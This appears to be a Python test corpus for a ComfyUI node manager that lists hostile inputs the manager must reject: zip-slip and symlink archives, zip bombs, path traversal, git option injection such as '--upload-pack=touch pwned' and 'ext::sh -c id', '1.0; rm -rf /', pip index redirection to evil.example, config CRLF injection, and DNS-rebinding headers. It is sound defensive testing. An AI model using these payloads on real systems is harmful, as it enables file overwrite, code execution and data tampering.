"""The hostile-input corpus, as data. Each list feeds one parametrized test in this folder.

Add a case by appending a ``Case(id, payload, code)`` to the right list: ``id`` names the attack
(it becomes the test id), ``payload`` is what that category's test feeds in, ``code`` is the
``ManagerError.code`` the Manager must answer with. See docs/quality.md.
"""

from __future__ import annotations

import json

from hostile.harness import ArchiveSpec, Case, Entry

TINY = {"max_entry_bytes": 64 * 1024, "max_total_bytes": 96 * 1024, "max_entries": 8}
OK = Entry("pack/__init__.py", data=b"NODE_CLASS_MAPPINGS = {}\n")

# --- archives: extracted into custom_nodes/.cm-staging.disabled/<pack> -------------------------
ARCHIVES: list[Case] = [
    Case("zip-slip-parent", ArchiveSpec("zip", (OK, Entry("../../../../evil.txt"))), "archive_unsafe"),
    Case("zip-slip-nested", ArchiveSpec("zip", (Entry("pack/sub/../../../../../evil.txt"),)), "archive_unsafe"),
    Case("zip-slip-backslash", ArchiveSpec("zip", (Entry("..\\..\\..\\..\\evil.txt"),)), "archive_unsafe"),
    Case("tar-slip-parent", ArchiveSpec("tar", (OK, Entry("../../../../evil.txt"))), "archive_unsafe"),
    Case("tgz-slip-parent", ArchiveSpec("tgz", (Entry("pack/../../../../../evil.txt"),)), "archive_unsafe"),
    Case("zip-absolute-path", ArchiveSpec("zip", (Entry("{abs}/abs-evil.txt"),)), "archive_unsafe"),
    Case("tar-absolute-path", ArchiveSpec("tar", (Entry("{abs}/abs-evil.txt"),)), "archive_unsafe"),
    Case("zip-drive-letter", ArchiveSpec("zip", (Entry("C:/Windows/evil.txt"),)), "archive_unsafe"),
    Case("zip-alternate-data-stream", ArchiveSpec("zip", (Entry("pack/file.txt:evil"),)), "archive_unsafe"),
    Case("zip-empty-name", ArchiveSpec("zip", (Entry("./"),)), "archive_unsafe"),
    Case("zip-symlink-absolute", ArchiveSpec("zip", (OK, Entry("pack/etc", "symlink", link="/etc"))), "archive_unsafe"),
    Case(
        "zip-symlink-parent", ArchiveSpec("zip", (Entry("pack/up", "symlink", link="../../../.."),)), "archive_unsafe"
    ),
    Case("tar-symlink-absolute", ArchiveSpec("tar", (Entry("pack/root", "symlink", link="{abs}"),)), "archive_unsafe"),
    Case(
        "tar-symlink-chain",
        ArchiveSpec(
            "tar", (Entry("d1", "dir"), Entry("d1/l1", "symlink", link=".."), Entry("l2", "symlink", link="d1/l1/.."))
        ),
        "archive_unsafe",
        "each link looks inside on its own; only the resolved chain escapes",
    ),
    Case(
        "tar-write-through-symlink",
        ArchiveSpec("tar", (Entry("out", "symlink", link="{abs}"), Entry("out/payload.txt"))),
        "archive_unsafe",
    ),
    Case(
        "tar-hardlink-outside",
        ArchiveSpec("tar", (Entry("pack/passwd", "hardlink", link="/etc/passwd"),)),
        "archive_unsafe",
    ),
    Case(
        "tar-hardlink-inside",
        ArchiveSpec("tar", (OK, Entry("pack/again", "hardlink", link="pack/__init__.py"))),
        "archive_unsafe",
        "hard links are refused outright",
    ),
    Case("tar-char-device", ArchiveSpec("tar", (Entry("pack/null", "chr"),)), "archive_unsafe"),
    Case("tar-fifo", ArchiveSpec("tar", (Entry("pack/pipe", "fifo"),)), "archive_unsafe"),
    Case("zip-fifo", ArchiveSpec("zip", (Entry("pack/pipe", "fifo"),)), "archive_unsafe"),
    Case("zip-duplicate-entry", ArchiveSpec("zip", (OK, OK)), "archive_unsafe"),
    Case("zip-file-as-parent", ArchiveSpec("zip", (Entry("pack"), Entry("pack/inner.py"))), "archive_unsafe"),
    Case("zip-bomb-ratio", ArchiveSpec("zip", (Entry("pack/zeros.bin", zeros=8 << 20),)), "archive_too_large"),
    Case("tgz-bomb-ratio", ArchiveSpec("tgz", (Entry("pack/zeros.bin", zeros=8 << 20),)), "archive_too_large"),
    Case(
        "zip-huge-entry",
        ArchiveSpec("zip", (Entry("pack/big.bin", data=bytes(range(256)) * 400),), limits=TINY),
        "archive_too_large",
    ),
    Case(
        "tar-huge-entry",
        ArchiveSpec("tar", (Entry("pack/big.bin", data=bytes(range(256)) * 400),), limits=TINY),
        "archive_too_large",
    ),
    Case(
        "zip-total-too-large",
        ArchiveSpec("zip", tuple(Entry(f"pack/f{i}.bin", data=bytes(range(256)) * 200) for i in range(3)), limits=TINY),
        "archive_too_large",
    ),
    Case(
        "zip-too-many-entries",
        ArchiveSpec("zip", tuple(Entry(f"pack/f{i}.py") for i in range(20)), limits=TINY),
        "archive_too_large",
    ),
    Case("not-an-archive", ArchiveSpec("raw", raw=b"<html>502 Bad Gateway</html>" * 10), "archive_invalid"),
    Case("truncated-zip", ArchiveSpec("raw", raw=b"PK\x03\x04" + b"\x00" * 40), "archive_invalid"),
]

# --- names -----------------------------------------------------------------------------------------
NODE_IDS: list[Case] = [
    Case(f"node-id-{label}", value, "invalid_name")
    for label, value in [
        ("traversal", "../x"),
        ("dotdot", ".."),
        ("empty", ""),
        ("slash", "a/b"),
        ("backslash", "a\\b"),
        ("option", "-rf"),
        ("very-long", "x" * 300),
        ("fullwidth", "ｆｕｌｌｗｉｄｔｈ"),
        ("nul", "a\x00b"),
        ("bidi-override", "\u202eevil"),
        ("hidden", ".hidden"),
        ("newline", "a\nb"),
        ("not-text", None),
        ("url", "https://evil.example/x"),
    ]
]
REGISTRY_VERSIONS: list[Case] = [
    Case(f"version-{label}", value, "invalid_name")
    for label, value in [
        ("traversal", "../1.0.0"),
        ("empty", ""),
        ("shell", "1.0; rm -rf /"),
        ("query", "1.0&x=y"),
    ]
]
# Folder names under custom_nodes/ (validate_pack_name, and install's ``name`` parameter)
PACK_NAMES: list[Case] = [
    Case(f"pack-name-{label}", value, "invalid_name", known_gap=gap)
    for label, value, gap in [
        ("traversal", "../x", ""),
        ("dotdot", "..", ""),
        ("empty", "", ""),
        ("slash", "a/b", ""),
        ("backslash", "a\\b", ""),
        ("absolute", "/etc", ""),
        ("nul", "a\x00b", ""),
        ("very-long", "x" * 300, ""),
        ("reserved-con", "CON", ""),
        ("reserved-nul-ext", "nul.txt", ""),
        ("reserved-com1", "com1", ""),
        ("git-dir", ".git", ""),
        ("staging-folder", ".cm-staging.disabled", ""),
        ("manager-folder", "__manager", ""),
        ("disabled-suffix", "pack.disabled", ""),
        ("trailing-dot", "pack.", ""),
        ("trailing-space", "pack ", ""),
        ("newline", "a\nb", ""),
        ("stream-colon", "a:b", ""),
        ("not-text", None, ""),
        ("bidi-override", "\u202eexe.txt", ""),
        ("zero-width", "pa\u200bck", ""),
        ("fullwidth-slash", "a\uff0fb", ""),
        ("fullwidth-dots", "\uff0e\uff0e", ""),
    ]
]
# Install specs typed by a user or sent to the queue (a bare word is always an id)
INSTALL_SPECS: list[Case] = [
    Case(f"spec-{label}", value, "invalid_name")
    for label, value in [
        ("relative-traversal", "../../etc"),
        ("dotdot", ".."),
        ("empty", "   "),
        ("hidden", ".git"),
        ("staging", ".cm-staging.disabled"),
        ("bad-version", "pack@../../x"),
        ("reserved", "CON"),
    ]
]
SNAPSHOT_NAMES: list[Case] = [
    Case(f"snapshot-name-{label}", value, "invalid_name", known_gap=gap)
    for label, value, gap in [
        ("traversal", "../x", ""),
        ("dotdot", "..", ""),
        ("empty", "", ""),
        ("only-suffix", ".json", ""),
        ("slash", "a/b", ""),
        ("backslash", "a\\b", ""),
        ("absolute", "/tmp/x", ""),
        ("nul", "a\x00b", ""),
        ("very-long", "s" * 300, ""),
        ("hidden", ".hidden", ""),
        ("bidi-override", "\u202esnap", ""),
        ("zero-width", "sn\u200bap", ""),
        ("newline", "a\nb", ""),
        ("not-text", None, ""),
        ("reserved-con", "CON", ""),
        ("reserved-com1", "com1", ""),
    ]
]
# Model entries (save_path, filename) from a channel or an API request; refused before any download
MODEL_PATHS: list[Case] = [
    Case(f"model-{label}", (save_path, filename), code)
    for label, save_path, filename, code in [
        ("save-path-traversal", "checkpoints/../../..", "m.safetensors", "path_escape"),
        ("save-path-absolute", "/etc", "m.safetensors", "path_escape"),
        ("save-path-drive", "C:\\models", "m.safetensors", "path_escape"),
        ("save-path-fullwidth-dots", "checkpoints/\uff0e\uff0e/\uff0e\uff0e", "m.safetensors", "path_escape"),
        ("save-path-nul", "check\x00points", "m.safetensors", "model_path_invalid"),
        ("save-path-reserved", "checkpoints/aux", "m.safetensors", "model_path_invalid"),
        ("save-path-very-long", "checkpoints/" + "d" * 300, "m.safetensors", "model_path_invalid"),
        ("filename-traversal", "checkpoints", "../../../evil.safetensors", "path_escape"),
        ("filename-absolute", "checkpoints", "/etc/passwd", "path_escape"),
        ("filename-subfolder", "checkpoints", "sub/m.safetensors", "model_path_invalid"),
        ("filename-empty", "checkpoints", "", "model_path_invalid"),
        ("filename-hidden", "checkpoints", ".bashrc", "model_path_invalid"),
        ("filename-partial-download", "checkpoints", "m.safetensors.part", "model_path_invalid"),
        ("filename-reserved", "checkpoints", "con.safetensors", "model_path_invalid"),
        ("filename-bidi", "checkpoints", "evil\u202egnp.safetensors", "model_path_invalid"),
        ("filename-zero-width", "checkpoints", "m\u200b.safetensors", "model_path_invalid"),
        ("filename-trailing-space", "checkpoints", "m.safetensors ", "model_path_invalid"),
        ("filename-windows-chars", "checkpoints", "m<1>.safetensors", "model_path_invalid"),
        ("filename-stream", "checkpoints", "m.safetensors:evil", "model_path_invalid"),
        ("filename-very-long", "checkpoints", "m" * 300 + ".safetensors", "model_path_invalid"),
    ]
]
# Paths handed to Layout.inside(): relative to the ComfyUI root, "{abs}" = absolute tmp root.
PATHS: list[Case] = [
    Case("path-parent", "custom_nodes/../../outside", "path_escape"),
    Case("path-absolute-etc", "/etc/passwd", "path_escape"),
    Case("path-absolute-tmp", "{abs}/elsewhere", "path_escape"),
    Case("path-symlink-escape", "@link", "path_escape", "a link inside custom_nodes that points out of the tree"),
    Case("path-root-itself", "", "path_escape", "the ComfyUI root is not a writable folder; its children are"),
]

# --- git URLs and refs: GitClient.clone / check_ref, refused before git starts ---------------------
GIT_URLS: list[Case] = [
    Case(f"git-url-{label}", value, "git_url_invalid")
    for label, value in [
        ("upload-pack-option", "--upload-pack=touch pwned"),
        ("upload-pack-spaced", "  --upload-pack=touch pwned"),
        ("short-option", "-u touch"),
        ("config-option", "-c core.sshCommand=touch pwned"),
        ("ext-transport", "ext::sh -c touch% pwned"),
        ("ext-upper", "EXT::sh -c id"),
        ("fd-transport", "fd::17"),
        ("other-helper", "hg::https://example.com/repo"),
        ("ssh-proxycommand-host", "ssh://-oProxyCommand=touch%20pwned/x"),
        ("scp-dash-host", "user@-oProxyCommand=x:repo"),
        ("ftp-scheme", "ftp://example.com/repo.git"),
        ("scheme-typo", "htps://github.com/owner/repo"),
        ("no-host", "https:///owner/repo"),
        ("space-in-url", "https://github.com/owner/re po"),
        ("newline-in-url", "https://github.com/owner/repo\n--upload-pack=x"),
        ("nul-in-url", "https://exa\x00mple.com/repo"),
        ("bidi-in-url", "\u202ehttps://example.com/repo"),
        ("javascript-scheme", "javascript:alert(1)"),
        ("data-scheme", "data:text/plain,x"),
        ("empty", ""),
    ]
]
GIT_REFS: list[Case] = [
    Case(f"git-ref-{label}", value, "git_ref_invalid")
    for label, value in [
        ("upload-pack-option", "--upload-pack=touch pwned"),
        ("short-option", "-b"),
        ("dotdot", "a..b"),
        ("reflog", "HEAD@{1}"),
        ("lock-suffix", "main.lock"),
        ("traversal", "refs/../x"),
        ("space", "a b"),
        ("tilde", "main~1"),
        ("hidden-component", ".hidden"),
        ("empty", ""),
    ]
]

# --- requirements.txt lines of a pack (no allowed extra sources configured) -------------------------
REQUIREMENTS: list[Case] = [
    Case(f"req-{label}", line, code)
    for label, line, code in [
        ("index-url", "--index-url https://evil.example/simple", "deps_source_not_allowed"),
        ("index-url-short", "-i https://evil.example/simple", "deps_source_not_allowed"),
        ("extra-index-url", "--extra-index-url https://evil.example/simple", "deps_source_not_allowed"),
        ("find-links-url", "--find-links https://evil.example/wheels", "deps_source_not_allowed"),
        ("find-links-outside", "--find-links /tmp", "deps_source_not_allowed"),
        ("trusted-host", "--trusted-host evil.example", "deps_source_not_allowed"),
        ("direct-url", "pkg @ https://evil.example/pkg-1.0-py3-none-any.whl", "deps_source_not_allowed"),
        ("bare-url", "https://evil.example/pkg-1.0-py3-none-any.whl", "deps_source_not_allowed"),
        ("vcs-url", "git+https://evil.example/pkg.git#egg=pkg", "deps_source_not_allowed"),
        ("file-url", "pkg @ file:///etc/pkg.whl", "deps_source_not_allowed"),
        ("local-outside-pack", "../../outside.whl", "deps_source_not_allowed"),
        ("editable", "-e git+https://evil.example/x.git#egg=x", "deps_requirement_invalid"),
        ("install-option", "pkg --install-option=--prefix=/tmp", "deps_requirement_invalid"),
        ("global-option", "pkg --global-option=build_ext", "deps_requirement_invalid"),
        ("target", "--target /tmp/x", "deps_requirement_invalid"),
        ("prefix", "--prefix=/tmp", "deps_requirement_invalid"),
        ("root", "--root /", "deps_requirement_invalid"),
        ("user", "--user", "deps_requirement_invalid"),
        ("no-index", "--no-index", "deps_requirement_invalid"),
        ("break-system", "--break-system-packages", "deps_requirement_invalid"),
        ("constraints", "-c constraints.txt", "deps_requirement_invalid"),
        ("include-outside", "-r ../../outside.txt", "deps_requirement_invalid"),
        ("trailing-index", "torch --extra-index-url https://evil.example/whl", "deps_requirement_invalid"),
        ("marker-injection", "pkg; os_name=='posix' --index-url https://evil.example", "deps_requirement_invalid"),
        ("nul", "numpy\x00", "deps_requirement_invalid"),
        ("fullwidth-name", "ＰＫＧ", "deps_requirement_invalid"),
    ]
]

# --- JSON -----------------------------------------------------------------------------------------
DEEP = b"[" * 200_000 + b"]" * 200_000
# Channel files through the cache (file:// and http://127.0.0.1); payload = (body, cache max_bytes)
CHANNEL_BODIES: list[Case] = [
    Case("json-malformed", (b'{"custom_nodes": [', None), "channel_data_invalid"),
    Case("json-html-error-page", (b"<html><body>502 Bad Gateway</body></html>", None), "channel_data_invalid"),
    Case("json-empty-body", (b"", None), "channel_data_invalid"),
    Case("json-deep-nesting", (DEEP, None), "channel_data_invalid"),
    Case("json-invalid-utf8", (b'{"custom_nodes": ["\xff\xfe"]}', None), "channel_data_invalid"),
    Case("json-huge", (b'{"custom_nodes": [' + b'{"title": "x"},' * 20_000 + b"{}]}", 64 * 1024), "response_too_large"),
]
# Valid JSON of the wrong shape, through Catalog.build(strict=True); payload = (file name, body)
CATALOG_SHAPES: list[Case] = [
    Case(f"shape-{label}", (name, body), "channel_data_invalid")
    for label, name, body in [
        ("nodes-top-level-list", "custom-node-list.json", b"[]"),
        ("nodes-null", "custom-node-list.json", b"null"),
        ("nodes-string", "custom-node-list.json", b'"custom_nodes"'),
        ("nodes-not-a-list", "custom-node-list.json", b'{"custom_nodes": {"a": 1}}'),
        ("nodes-number", "custom-node-list.json", b'{"custom_nodes": 5}'),
        ("models-not-a-list", "model-list.json", b'{"models": "all of them"}'),
        ("node-map-list", "extension-node-map.json", json.dumps([["a"], {}]).encode()),
    ]
]
# Registry /nodes pages served by a loopback registry; payload = page body
REGISTRY_PAGES: list[Case] = [
    Case(f"registry-{label}", body, "registry_error")
    for label, body in [
        ("page-list", b"[]"),
        ("nodes-string", b'{"nodes": "x", "totalPages": 1}'),
        ("negative-pages", b'{"nodes": [], "totalPages": -1}'),
        ("pages-string", b'{"nodes": [], "totalPages": "many"}'),
        ("too-many-pages", b'{"nodes": [], "totalPages": 100000000}'),
        ("malformed", b'{"nodes": ['),
    ]
] + [
    Case("registry-deep-nesting", b'{"nodes": ' + DEEP + b"}", "registry_error"),
]

# --- config.ini ---------------------------------------------------------------------------------
CONFIG_FILES: list[Case] = [
    Case(f"config-{label}", text, code)
    for label, text, code in [
        ("bad-choice", "[default]\nnetwork_mode = ofline\n", "config_invalid"),
        ("negative-int", "[default]\ncache_ttl = -5\n", "config_invalid"),
        ("overflow-float-int", "[default]\ncache_ttl = 1e999\n", "config_invalid"),
        ("nan", "[default]\nhttp_timeout = nan\n", "config_invalid"),
        ("infinity", "[default]\nhttp_timeout = inf\n", "config_invalid"),
        ("zero-timeout", "[default]\nhttp_timeout = 0\n", "config_invalid"),
        ("javascript-url", "[default]\nchannel_url = javascript:alert(1)\n", "config_invalid"),
        ("ftp-url", "[default]\nchannel_url = ftp://example.com/x\n", "config_invalid"),
        ("bad-bool", "[default]\nbypass_ssl = maybe\n", "config_invalid"),
        ("bad-security-level", "[default]\nsecurity_level = root\n", "config_invalid"),
        ("bad-url-in-list", "[default]\nprivate_mirrors = https://ok.example, javascript:x\n", "config_invalid"),
        ("unknown-key", "[default]\nnetwrok_mode = offline\n", "config_unknown_key"),
        ("no-equals", "[default]\nthis line has no equals\n", "config_invalid"),
        ("broken-section", "[default\nnetwork_mode = offline\n", "config_invalid"),
        ("binary", "\x00\x01\x02binary", "config_invalid"),
    ]
]
# Config.save({key: value}) on a valid file: must refuse and leave the file byte for byte
CONFIG_SAVES: list[Case] = [
    Case(f"save-{label}", change, code)
    for label, change, code in [
        ("lf-injection", {"network_mode": "offline\nsecurity_level = weak"}, "config_invalid"),
        ("cr-injection", {"network_mode": "offline\r[security]"}, "config_invalid"),
        ("crlf-injection", {"security_level": "weak\r\nallow_pip_install = true"}, "config_invalid"),
        ("lf-in-path", {"git_exe": "/usr/bin/git\nsecurity_level = weak"}, "config_invalid"),
        ("nul", {"channel_url": "https://x.example/\x00"}, "config_invalid"),
        ("lf-in-list-item", {"private_mirrors": ["https://a.example\n[security]"]}, "config_invalid"),
        ("comma-in-list-item", {"private_mirrors": ["https://a.example, https://b.example"]}, "config_invalid"),
        ("wrong-type-list", {"cache_ttl": [1]}, "config_invalid"),
        ("wrong-type-bool", {"cache_ttl": True}, "config_invalid"),
        ("bad-choice", {"network_mode": "airgapped"}, "config_invalid"),
        ("unknown-key", {"netwrok_mode": "offline"}, "config_unknown_key"),
    ]
]


def all_cases() -> dict[str, list[Case]]:
    """Every list of the corpus by name (for the count check and docs)."""
    return {
        name: value
        for name, value in globals().items()
        if name.isupper() and isinstance(value, list) and value and isinstance(value[0], Case)
    }


# --- API request bodies (the standalone app; the same route table ComfyUI mounts) -----------------
V1 = "/offline-manager/v1"
_JSON = "application/json"
API_REQUESTS: list[Case] = [
    Case(f"api-{label}", (method, path, body, ctype), code, known_gap=gap)
    for label, method, path, body, ctype, code, gap in [
        ("malformed-json", "POST", V1 + "/queue", b'{"kind": "install", ', _JSON, "request_invalid", ""),
        ("top-level-list", "POST", V1 + "/queue", b"[1, 2]", _JSON, "request_invalid", ""),
        ("top-level-string", "POST", "/customnode/install/git_url", b'"ext::sh -c id"', _JSON, "request_invalid", ""),
        ("invalid-utf8", "POST", V1 + "/queue", b'{"kind": "\xff"}', _JSON, "request_invalid", ""),
        (
            "huge-body",
            "POST",
            V1 + "/queue",
            b'{"kind": "install", "target": "' + b"x" * (5 << 20) + b'"}',
            _JSON,
            "request_too_large",
            "",
        ),
        ("deep-nesting", "POST", V1 + "/queue", DEEP, _JSON, "request_invalid", ""),
        ("deep-nesting-workflow", "POST", V1 + "/workflow/missing", DEEP, _JSON, "request_invalid", ""),
        ("kind-not-text", "POST", V1 + "/queue", b'{"kind": 5, "target": "x"}', _JSON, "request_invalid", ""),
        ("unknown-kind", "POST", V1 + "/queue", b'{"kind": "explode", "target": "x"}', _JSON, "request_invalid", ""),
        (
            "params-not-object",
            "POST",
            V1 + "/queue",
            b'{"kind": "install", "target": "x", "params": "no"}',
            _JSON,
            "request_invalid",
            "",
        ),
        # JSON text is read whatever the label (fetchApi says text/plain); form fields are not JSON
        (
            "form-fields",
            "POST",
            V1 + "/queue",
            b"kind=install&target=x",
            "application/x-www-form-urlencoded",
            "content_type_refused",
            "",
        ),
        (
            "multipart-fields",
            "POST",
            "/manager/queue/install",
            b'--b\r\nContent-Disposition: form-data; name="id"\r\n\r\nx\r\n--b--\r\n',
            "multipart/form-data; boundary=b",
            "content_type_refused",
            "",
        ),
        ("text-plain-not-json", "POST", "/manager/db_mode", b"value=local", "text/plain", "request_invalid", ""),
        ("config-changes-not-object", "POST", V1 + "/config", b'{"changes": "x"}', _JSON, "request_invalid", ""),
        (
            "config-unknown-key",
            "POST",
            V1 + "/config",
            b'{"changes": {"netwrok_mode": "offline"}}',
            _JSON,
            "config_unknown_key",
            "",
        ),
        (
            "config-lf-injection",
            "POST",
            V1 + "/config",
            json.dumps({"changes": {"component_policy": "mine\nsecurity_level = weak"}}).encode(),
            _JSON,
            "config_invalid",
            "",
        ),
        (
            "config-crlf-injection",
            "POST",
            V1 + "/config",
            json.dumps({"changes": {"db_mode": "local\r\n[security]\r\nallow_pip_install = true"}}).encode(),
            _JSON,
            "config_invalid",
            "",
        ),
        (
            "network-mode-injection",
            "POST",
            V1 + "/network",
            json.dumps({"mode": "offline\npublic"}).encode(),
            _JSON,
            "request_invalid",
            "",
        ),
        ("channel-traversal", "POST", V1 + "/channels", b'{"name": "../../x"}', _JSON, "channel_invalid", ""),
        (
            "classic-id-not-text",
            "POST",
            "/manager/queue/install",
            b'{"id": ["x"], "version": 5}',
            _JSON,
            "request_invalid",
            "",
        ),
        (
            "model-traversal-unlisted",
            "POST",
            "/manager/queue/install_model",
            json.dumps(
                {
                    "filename": "../../evil.safetensors",
                    "save_path": "default",
                    "name": "x",
                    "type": "checkpoint",
                    "url": "http://127.0.0.1:9/x",
                }
            ).encode(),
            _JSON,
            "not_found",
            "",
        ),
        (
            "git-url-option-injection",
            "POST",
            "/customnode/install/git_url",
            b'{"url": "--upload-pack=touch /tmp/pwned"}',
            _JSON,
            "security_denied",
            "",
        ),
        (
            "pip-index-injection",
            "POST",
            "/customnode/install/pip",
            b'{"packages": "--index-url https://evil.example/simple x"}',
            _JSON,
            "security_denied",
            "",
        ),
        ("query-choice", "GET", V1 + "/packs?mode=evil", None, None, "request_invalid", ""),
        ("path-traversal-id", "GET", V1 + "/packs/..%2F..%2Fetc", None, None, "not_found", ""),
        # pack ids are checked when queued, before any task exists
        (
            "task-install-traversal",
            "POST",
            V1 + "/queue",
            json.dumps({"kind": "install", "target": "../../etc"}).encode(),
            _JSON,
            "invalid_name",
            "",
        ),
        (
            "task-install-hidden",
            "POST",
            V1 + "/queue",
            json.dumps({"kind": "install", "target": ".cm-staging.disabled"}).encode(),
            _JSON,
            "invalid_name",
            "",
        ),
        (
            "task-classic-install-traversal",
            "POST",
            "/manager/queue/install",
            json.dumps({"id": "../../x", "version": "nightly", "selected_version": "nightly"}).encode(),
            _JSON,
            "invalid_name",
            "",
        ),
    ]
]


# --- Host and Origin headers: DNS rebinding and foreign pages (a 127.0.0.1 listener) -------------
# ``{port}`` is the test server's port; every case must be refused before its handler runs.
_PAGE = {"Sec-Fetch-Site": "same-origin"}
API_HEADERS: list[Case] = [
    Case(f"headers-{label}", (headers, method, path), code)
    for label, headers, method, path, code in [
        ("rebind-name", {"Host": "evil.example:{port}"}, "GET", V1 + "/config", "host_not_allowed"),
        (
            "rebind-page",
            {"Host": "evil.example:{port}", "Origin": "http://evil.example:{port}", **_PAGE},
            "POST",
            V1 + "/queue/reset",
            "host_not_allowed",
        ),
        ("rebind-no-port", {"Host": "evil.example"}, "GET", "/customnode/installed", "host_not_allowed"),
        ("loopback-prefix", {"Host": "127.0.0.1.evil.example:{port}"}, "GET", V1 + "/status", "host_not_allowed"),
        ("localhost-prefix", {"Host": "localhost.evil.example:{port}"}, "GET", V1 + "/status", "host_not_allowed"),
        ("hex-address", {"Host": "0x7f.0.0.1:{port}"}, "GET", V1 + "/status", "host_not_allowed"),
        ("decimal-address", {"Host": "2130706433:{port}"}, "GET", V1 + "/status", "host_not_allowed"),
        ("any-address", {"Host": "0.0.0.0:{port}"}, "GET", V1 + "/status", "host_not_allowed"),
        ("lan-address", {"Host": "192.168.0.10:{port}"}, "GET", V1 + "/status", "host_not_allowed"),
        ("bad-port", {"Host": "127.0.0.1:99999"}, "GET", V1 + "/status", "host_not_allowed"),
        ("empty-host", {"Host": ""}, "GET", V1 + "/status", "host_not_allowed"),
        ("userinfo-host", {"Host": "127.0.0.1@evil.example"}, "GET", V1 + "/status", "host_not_allowed"),
        (
            "ws-rebind",
            {"Host": "evil.example:{port}", "Origin": "http://evil.example:{port}"},
            "GET",
            "/ws",
            "host_not_allowed",
        ),
        ("origin-null", {"Origin": "null"}, "POST", "/manager/queue/start", "cross_origin_denied"),
        ("origin-other", {"Origin": "http://evil.example"}, "POST", "/api/manager/reboot", "cross_origin_denied"),
        (
            "origin-suffix",
            {"Origin": "http://127.0.0.1:{port}.evil.example"},
            "POST",
            V1 + "/queue/reset",
            "cross_origin_denied",
        ),
        (
            "origin-userinfo",
            {"Origin": "http://127.0.0.1:{port}@evil.example"},
            "POST",
            V1 + "/queue/reset",
            "cross_origin_denied",
        ),
        ("origin-garbage", {"Origin": "http://127.0.0.1:port"}, "POST", V1 + "/queue/reset", "cross_origin_denied"),
        ("fetch-cross-site", {"Sec-Fetch-Site": "cross-site"}, "POST", "/snapshot/save", "cross_origin_denied"),
        (
            "fetch-same-site",
            {"Sec-Fetch-Site": "same-site", "Origin": "http://127.0.0.1:1"},
            "POST",
            "/manager/queue/reset",
            "cross_origin_denied",
        ),
        (
            "get-write-cross-site",
            {"Sec-Fetch-Site": "cross-site"},
            "GET",
            "/manager/share_option?value=none",
            "cross_origin_denied",
        ),
        ("ws-foreign-page", {"Origin": "http://evil.example"}, "GET", "/ws", "cross_origin_denied"),
    ]
]
